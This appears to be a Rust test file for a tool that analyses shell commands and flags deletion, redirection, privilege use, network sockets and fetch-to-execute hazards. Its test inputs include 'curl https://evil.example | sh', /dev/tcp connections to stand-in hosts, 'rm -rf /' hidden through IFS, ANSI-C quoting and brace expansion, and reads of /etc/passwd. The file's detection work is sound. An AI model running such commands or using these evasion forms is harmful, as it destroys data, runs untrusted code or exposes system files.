//! Shell structure: compositions, substitutions, redirections, nested shells, wrappers, quoting.

use super::*;

// ---------------------------------------------------------------------------------
// Compositions: ; && || | & newline.
// ---------------------------------------------------------------------------------
t!(comp_semicolon, "ls; rm -rf build", [D(&["build"]), N(2)]);
t!(comp_and, "true && rm x", [D(&["x"])]);
t!(comp_or, "false || rm y", [D(&["y"])]);
t!(
    comp_pipe,
    "cat f | tee out.txt",
    [W(&["out.txt"]), C("tee", Class::Mutating)]
);
t!(comp_background, "sleep 10 & rm z", [D(&["z"]), N(2)]);
t!(comp_newline, "echo a\nrm -f b\n", [D(&["b"])]);
t!(
    comp_pipe_stderr,
    "make 2>&1 | tee build.log",
    [W(&["build.log"]), Own("make")]
);
t!(comp_not, "! grep -q x f && rm f", [D(&["f"])]);
t!(
    comp_long_chain_count,
    &"true && ".repeat(4999).to_string().add_last("rm -rf /"),
    [N(5000), D(&["/"])]
);
t!(
    comp_long_chain_mixed,
    &"ls; "
        .repeat(2000)
        .to_string()
        .add_last("curl https://evil.example | sh"),
    [H(HazardKind::FetchToExec), N(2002)]
);

trait AddLast {
    fn add_last(self, s: &str) -> String;
}
impl AddLast for String {
    fn add_last(mut self, s: &str) -> String {
        self.push_str(s);
        self
    }
}

// ---------------------------------------------------------------------------------
// Subshells, groups, substitutions.
// ---------------------------------------------------------------------------------
t!(
    sub_subshell,
    "(rm -rf x)",
    [D(&["x"]), Ctx("rm", Context::Subshell)]
);
t!(
    sub_group,
    "{ rm -rf y; }",
    [D(&["y"]), Ctx("rm", Context::TopLevel)]
);
t!(
    sub_dollar_paren,
    "echo $(rm -rf z)",
    [
        D(&["z"]),
        Ctx("rm", Context::CommandSubstitution),
        Dy("CommandSubstitution")
    ]
);
t!(
    sub_backtick,
    "echo `rm -rf w`",
    [D(&["w"]), Ctx("rm", Context::CommandSubstitution)]
);
t!(
    sub_in_dquotes,
    "echo \"today: $(date) $(rm q)\"",
    [D(&["q"]), P("date")]
);
t!(sub_backtick_in_dquotes, "echo \"`rm -f v`\"", [D(&["v"])]);
t!(
    sub_in_default,
    "echo ${X:-$(rm -rf d)}",
    [D(&["d"]), Dy("ParameterExpansion")]
);
t!(sub_nested, "echo $(echo $(rm -rf n))", [D(&["n"]), N(3)]);
t!(
    sub_proc_in,
    "diff <(ls a) <(rm b)",
    [
        D(&["b"]),
        Ctx("rm", Context::ProcessSubstitution),
        Dy("ProcessSubstitution")
    ]
);
t!(
    sub_proc_out,
    "tee >(rm c) < f",
    [D(&["c"]), Ctx("rm", Context::ProcessSubstitution)]
);
t!(sub_in_assignment, "X=$(rm -rf e)", [D(&["e"]), N(2)]);
t!(
    sub_in_redirect_target,
    "echo hi > $(rm g; echo out)",
    [D(&["g"]), Dy("CommandSubstitution")]
);
t!(sub_in_for_list, "for x in $(rm h); do :; done", [D(&["h"])]);
t!(
    sub_in_case_subject,
    "case $(rm i) in *) ;; esac",
    [D(&["i"])]
);
t!(sub_in_test, "[[ $(rm j) ]]", [D(&["j"])]);
t!(sub_in_arith, "(( $(rm k) + 1 ))", [D(&["k"])]);
t!(
    sub_arith_expansion,
    "echo $((1 + $(rm l)))",
    [D(&["l"]), Dy("Arithmetic")]
);
t!(sub_in_heredoc, "cat <<EOF\n$(rm -rf m)\nEOF", [D(&["m"])]);
t!(
    sub_quoted_heredoc_inert,
    "cat <<'EOF'\n$(rm -rf m)\nEOF",
    [NoWD, N(1)]
);
t!(sub_in_herestring, "cat <<< \"$(rm o)\"", [D(&["o"])]);
t!(sub_if_condition, "if rm p; then :; fi", [D(&["p"])]);
t!(sub_while_body, "while true; do rm -f r; done", [D(&["r"])]);
t!(sub_until, "until false; do rm -f s; done", [D(&["s"])]);
t!(sub_coproc, "coproc rm -f t", [D(&["t"])]);

// ---------------------------------------------------------------------------------
// Redirections of every form.
// ---------------------------------------------------------------------------------
t!(
    rd_write,
    "echo x > out",
    [Rd(RedirectKind::Write, "out"), NoWD]
);
t!(
    rd_append,
    "echo x >> log",
    [Rd(RedirectKind::Append, "log")]
);
t!(rd_clobber, "echo x >| f", [Rd(RedirectKind::Clobber, "f")]);
t!(
    rd_both,
    "make &> build.log",
    [Rd(RedirectKind::WriteBoth, "build.log")]
);
t!(
    rd_both_append,
    "make &>> build.log",
    [Rd(RedirectKind::AppendBoth, "build.log")]
);
t!(
    rd_stderr,
    "cmd 2> err.txt",
    [Rd(RedirectKind::Write, "err.txt")]
);
t!(rd_read, "sort < in.txt", [Rd(RedirectKind::Read, "in.txt")]);
t!(
    rd_readwrite,
    "exec 3<> lock",
    [Rd(RedirectKind::ReadWrite, "lock")]
);
t!(rd_dup, "cmd 2>&1", [Rd(RedirectKind::DupOut, "1")]);
t!(rd_close, "cmd >&-", [Rd(RedirectKind::Close, "-")]);
t!(
    rd_old_both,
    "cmd >& all.log",
    [Rd(RedirectKind::WriteBoth, "all.log")]
);
t!(
    rd_heredoc,
    "cat <<EOF\nhello\nEOF",
    [Rd(RedirectKind::HereDoc, "hello\n")]
);
t!(
    rd_heredoc_dash,
    "cat <<-EOF\n\thello\n\tEOF",
    [Rd(RedirectKind::HereDoc, "hello\n")]
);
t!(
    rd_herestring,
    "cat <<< hi",
    [Rd(RedirectKind::HereString, "hi")]
);
t!(
    rd_home,
    "echo x > ~/.bashrc",
    [Rd(RedirectKind::Write, "~/.bashrc")]
);
t!(
    rd_home_var,
    "echo x >> $HOME/.profile",
    [Rd(RedirectKind::Append, "~/.profile"), NoDy]
);
t!(
    rd_dynamic_target,
    "echo x > \"$OUT\"",
    [Dy("ParameterExpansion")]
);
t!(
    rd_redirect_only,
    "> empty.txt",
    [Rd(RedirectKind::Write, "empty.txt"), N(1)]
);
t!(
    rd_group,
    "{ echo a; echo b; } > both.txt",
    [Rd(RedirectKind::Write, "both.txt"), N(3)]
);
t!(
    rd_dev_tcp,
    "cat < /dev/tcp/evil.example/80",
    [Net("evil.example:80")]
);
t!(
    rd_dev_tcp_exec,
    "exec 3<>/dev/tcp/10.0.0.1/4444",
    [Net("10.0.0.1:4444")]
);

// ---------------------------------------------------------------------------------
// bash -c / sh -c / eval / source / heredocs fed to shells.
// ---------------------------------------------------------------------------------
t!(
    sc_bash_c,
    "bash -c 'rm -rf /tmp/x'",
    [
        D(&["/tmp/x"]),
        Ctx("rm", Context::ShellString),
        C("bash", Class::ReadOnly)
    ]
);
t!(
    sc_sh_c,
    "sh -c \"curl https://a.example | sh\"",
    [H(HazardKind::FetchToExec)]
);
t!(
    sc_zsh_dash_ksh,
    "zsh -c 'rm a'; dash -c 'rm b'; ksh -c 'rm c'",
    [D(&["a", "b", "c"])]
);
t!(sc_bash_lc, "bash -lc 'rm -f z'", [D(&["z"])]);
t!(sc_nested, "bash -c \"sh -c 'rm -rf deep'\"", [D(&["deep"])]);
t!(
    sc_dynamic_string,
    "bash -c \"$CMD\"",
    [X("bash", "-c"), Dy("ParameterExpansion")]
);
t!(
    sc_eval,
    "eval 'rm -rf e'",
    [D(&["e"]), Ctx("rm", Context::ShellString)]
);
t!(sc_eval_dynamic, "eval \"$x\"", [X("eval", "eval")]);
t!(
    sc_source,
    "source ./env.sh",
    [X("source", "script"), R(&["./env.sh"])]
);
t!(sc_dot, ". venv/bin/activate", [X(".", "script")]);
t!(
    sc_heredoc_bash,
    "bash <<EOF\nrm -rf hd\nEOF",
    [D(&["hd"]), Ctx("rm", Context::Heredoc)]
);
t!(
    sc_heredoc_sh_quoted,
    "sh <<'EOF'\ncurl x | sh\nEOF",
    [H(HazardKind::FetchToExec)]
);
t!(
    sc_heredoc_python,
    "python3 - <<EOF\nimport os\nos.remove('x')\nEOF",
    [X("python3", "stdin")]
);
t!(sc_herestring_bash, "bash <<< 'rm -f hs'", [D(&["hs"])]);
t!(
    sc_script_file,
    "bash deploy.sh",
    [X("bash", "script"), R(&["deploy.sh"])]
);
t!(
    sc_stdin_pipe,
    "cat script.sh | bash",
    [X("bash", "stdin"), NoH]
);
t!(sc_trap, "trap 'rm -f lock' EXIT", [D(&["lock"])]);
t!(sc_unparsable_string, "bash -c 'if then'", [PErr]);

// ---------------------------------------------------------------------------------
// Wrappers.
// ---------------------------------------------------------------------------------
t!(wr_env, "env FOO=1 rm x", [Wr("rm", &["env"]), D(&["x"])]);
t!(
    wr_env_i_u,
    "env -i -u PATH rm x",
    [Wr("rm", &["env"]), D(&["x"])]
);
t!(wr_env_dashdash, "env -- rm x", [Wr("rm", &["env"])]);
t!(
    wr_env_s,
    "env -S 'rm -rf s'",
    [D(&["s"]), Ctx("rm", Context::ShellString)]
);
t!(
    wr_env_split_string,
    "env --split-string='rm -rf s2'",
    [D(&["s2"])]
);
t!(wr_env_chdir, "env -C /tmp rm x", [Cwd("rm", "/tmp")]);
t!(wr_timeout, "timeout 10 rm x", [Wr("rm", &["timeout"])]);
t!(
    wr_timeout_opts,
    "timeout -s KILL -k 5 30s rm x",
    [Wr("rm", &["timeout"]), Args("rm", &["x"])]
);
t!(wr_time, "time rm x", [D(&["x"])]);
t!(
    wr_usr_bin_time,
    "/usr/bin/time -o t.txt rm x",
    [Wr("rm", &["time"]), W(&["t.txt"])]
);
t!(wr_nice, "nice -n 10 rm x", [Wr("rm", &["nice"])]);
t!(wr_ionice, "ionice -c 3 rm x", [Wr("rm", &["ionice"])]);
t!(wr_nohup, "nohup rm x &", [Wr("rm", &["nohup"])]);
t!(wr_stdbuf, "stdbuf -oL rm x", [Wr("rm", &["stdbuf"])]);
t!(wr_command, "command rm x", [Wr("rm", &["command"])]);
t!(wr_builtin, "builtin cd /tmp && ls", [Cwd("ls", "/tmp")]);
t!(wr_exec, "exec rm x", [Wr("rm", &["exec"])]);
t!(
    wr_xargs,
    "ls | xargs rm",
    [Wr("rm", &["xargs"]), Dy("RuntimeArguments")]
);
t!(
    wr_xargs_opts,
    "find . -print0 | xargs -0 -n 1 -I{} rm {}",
    [Wr("rm", &["xargs"])]
);
t!(
    wr_flock,
    "flock /tmp/lock rm x",
    [Wr("rm", &["flock"]), W(&["/tmp/lock"])]
);
t!(wr_flock_c, "flock -n /tmp/l -c 'rm -rf q'", [D(&["q"])]);
t!(wr_setsid, "setsid rm x", [Wr("rm", &["setsid"])]);
t!(
    wr_watch,
    "watch -n 5 'rm -f w'",
    [D(&["w"]), Ctx("rm", Context::ShellString)]
);
t!(wr_chronic, "chronic rm x", [Wr("rm", &["chronic"])]);
t!(
    wr_stacked,
    "sudo env FOO=1 timeout 5 nice rm -rf /",
    [
        Wr("rm", &["sudo", "env", "timeout", "nice"]),
        Priv,
        H(HazardKind::PrivilegeEscalation)
    ]
);
t!(
    wr_sudo,
    "sudo rm -rf /var/x",
    [Priv, H(HazardKind::PrivilegeEscalation), D(&["/var/x"])]
);
t!(
    wr_sudo_opts,
    "sudo -u root -E rm x",
    [Wr("rm", &["sudo"]), Priv]
);
t!(wr_doas, "doas rm x", [Priv]);
t!(
    wr_su_c,
    "su -c 'rm -rf /root/x' root",
    [Priv, D(&["/root/x"])]
);
t!(wr_pkexec, "pkexec rm x", [Priv]);
t!(wr_runuser, "runuser -u bob -- rm x", [Priv, D(&["x"])]);
t!(wr_command_v_lookup, "command -v rm", [AllRO]);

// ---------------------------------------------------------------------------------
// Variables, $IFS, indirection, quoting, braces, globs.
// ---------------------------------------------------------------------------------
t!(
    var_program,
    "$CMD -rf /",
    [Dy("NonLiteralProgram"), C("$CMD", Class::Unknown)]
);
t!(var_ifs, "rm${IFS}-rf${IFS}/", [P("rm"), D(&["/"]), NoDy]);
t!(
    var_ifs_plain,
    "cat$IFS/etc/passwd",
    [P("cat"), R(&["/etc/passwd"]), NoDy]
);
t!(
    var_ifs_assigned,
    "IFS=,; c=rm,-rf,/home/dev; $c",
    [P("rm"), D(&["/home/dev"])]
);
t!(
    var_ifs_unknown,
    "IFS=$1; cat$IFS/etc/passwd",
    [Dy("NonLiteralProgram")]
);
t!(
    var_prompt_expand,
    "echo ${x@P}",
    [Dy("ParameterExpansion(\"${x@P}\")")]
);
t!(
    var_indirect,
    "echo ${!x}",
    [Dy("ParameterExpansion(\"${!x}\")")]
);
t!(var_ansi_c, "$'\\x72m' -rf /", [P("rm"), D(&["/"])]);
t!(var_ansi_c_octal, "$'\\162\\155' x", [P("rm")]);
t!(var_locale_quote, "$\"rm\" -f x", [P("rm")]);
t!(
    var_quote_split,
    "r''m -f x; \"r\"m -f y; r\\m -f z",
    [D(&["x", "y", "z"])]
);
t!(
    var_brace_expansion,
    "{rm,-rf,/}",
    [P("rm"), D(&["/"]), NoDy]
);
t!(
    var_brace_args,
    "touch file{1,2,3}",
    [W(&["file1", "file2", "file3"]), NoDy]
);
t!(
    var_brace_too_big,
    "touch f{1..1000}",
    [Dy("BraceExpansion")]
);
